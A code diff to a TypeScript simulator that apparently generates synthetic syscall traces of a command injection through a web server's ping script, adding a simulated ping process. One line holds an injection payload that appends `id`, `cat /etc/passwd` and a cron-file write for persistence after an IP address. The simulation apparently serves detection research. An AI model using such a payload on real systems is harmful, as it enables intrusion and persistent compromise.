@@ -1187,14 +1187,14 @@ function injection(
     comm: 'sh',
     exe: 'sh',
     exepath: '/usr/bin/sh',
-    args: ['-c', cmd],
+    args: ['-c', `ping -c 1 ${cmd}`],
     vmsizeKb: 115300,
     vmrssKb: 1420,
     env: ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin', 'PWD=/', 'LANG=C', 'SHLVL=1'],
   });
   close(w, pw);
   ldStartup(sh, ['/lib64/libtinfo.so.5', '/lib64/libdl.so.2', '/lib64/libc.so.6']);
-  const output = inner(sh);
+  const output = ping(h, sh, cmd) + inner(sh);
   procexit(sh, 0);
   w.until(sh.t);
   read(w, pr, 8192, output);
@@ -1214,8 +1214,46 @@ function injection(
   });
 }
 
+/** The `ping -c 1 <host>` the script meant to run: one ICMP echo to 127.0.0.1, or a usage error
+ *  (on stderr, which is httpd's error_log) when the injected text leaves no host. */
+function ping(h: Host, sh: Thread, cmd: string): string {
+  const sim = h.sim;
+  const dest = /^(\d+\.\d+\.\d+\.\d+);/.exec(cmd)?.[1];
+  const p = runChild(sh, '/usr/bin/ping', dest ? ['-c', '1', dest] : ['-c', '1'], 1, h);
+  let out = '';
+  if (dest) {
+    const fd = p.proc.allocFd(p.t);
+    p.call('socket', { domain: sim.flags('socket', '>', 'domain', ['AF_INET']), type: 2, proto: 1 }, { fd });
+    const icmp = Uint8Array.from({ length: 64 }, (_, k) =>
+      k < 8 ? ([8, 0, 0x4c, 0x2b, 0x7a, 0x91, 0, 1][k] ?? 0) : k,
+    );
+    p.call(
+      'sendto',
+      { fd, size: 64, tuple: { family: 'inet', sip: '0.0.0.0', sport: 0, dip: dest, dport: 0 } },
+      { res: 64, data: icmp },
+    );
+    const reply = icmp.slice();
+    reply[0] = 0;
+    p.call(
+      'recvfrom',
+      { fd, size: 192 },
+      { res: 64, data: reply, tuple: { family: 'inet', sip: dest, sport: 0, dip: dest, dport: 0 } },
+      48000,
+    );
+    out = `PING ${dest} (${dest}) 56(84) bytes of data.\n64 bytes from ${dest}: icmp_seq=1 ttl=64 time=0.048 ms\n\n--- ${dest} ping statistics ---\n1 packets transmitted, 1 received, 0% packet loss, time 0ms\nrtt min/avg/max/mdev = 0.048/0.048/0.048/0.000 ms\n`;
+    write(p, 1, out);
+    close(p, fd);
+    procexit(p, 0);
+  } else {
+    write(p, 2, 'ping: usage error: Destination address required\n');
+    procexit(p, 2);
+  }
+  sh.until(p.t);
+  return out;
+}
+
 function exploit(h: Host, agenda: Agenda): void {
-  const cmd1 = `127.0.0.1;id;cat /etc/passwd;echo '${CRON_LINE.trim()}'|tee /etc/cron.d/sysupdate`;
+  const cmd1 = `127.0.0.1;id;cat /etc/passwd;echo "${CRON_LINE.trim()}"|tee /etc/cron.d/sysupdate`;
   agenda.push({
     at: START + 2620n * MS,
     run: () =>
